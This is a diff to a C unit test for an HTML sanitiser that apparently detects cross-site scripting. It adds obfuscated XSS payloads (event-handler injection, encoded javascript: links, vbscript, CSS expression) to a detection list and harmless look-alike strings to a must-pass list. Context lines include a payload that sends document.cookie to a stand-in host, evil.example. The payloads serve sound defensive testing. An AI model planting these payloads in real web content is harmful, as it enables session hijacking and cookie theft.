@@ -11,6 +11,8 @@ static const char *const attacks[] = {
     "<details open ontoggle=alert(1)>", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\">",
     "<object data=\"http://evil.example/x.swf\"></object>", "<script>x()</script>", "<script\n>alert(1)</script>",
     "<div onclick=\"fetch('//evil.example/'+document.cookie)\">", "<img src=x onerror = alert`1`>",
+    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<a href=\"jav&#x09;ascript:alert(1)\">", "<a href='&#106;avascript&colon;alert(1)'>x</a>",
+    "<a href=\"java\tscript:alert(1)\">", "vbscript:msgbox(1)", "<div style=\"width:expression(alert(1))\">",
 };
 static const char *const honest[] = {
     "<b>bold</b> and <i>italic</i>", "Put it in a <script> tag", "How does the `<script>` element work? And `<iframe src=x>`?",
@@ -18,6 +20,8 @@ static const char *const honest[] = {
     "<!doctype html><html><head><script>var a = 1;</script></head><body onload=\"init()\">", "<a href=\"javascript:void(0)\">",
     "if (a <b && online = 5)", "one = 1; <p>money=3</p>", "List<Script> x; Map<object, base> y", "<script setup lang=\"ts\">",
     "data:text/plain,hello", "x < y and on = 3 > 2", "<meta charset=\"utf-8\">",
+    "class=\"btn\" onclick=\"alert(1)\"", "\" onmouseover=\"show()", "<a href=\"jobs&#x2F;ascript\">", "<a href=\"java&#x20;and more\">",
+    "<div style=\"width: calc(1px)\">", "vbscript: an old language", "say \"a\" onclick=\"alert(1)\"",
 };
 
 static void finds_payloads(void **state) { (void)state; cases_all_found(&bawn_guard_html, attacks, BAWN_COUNT(attacks)); }
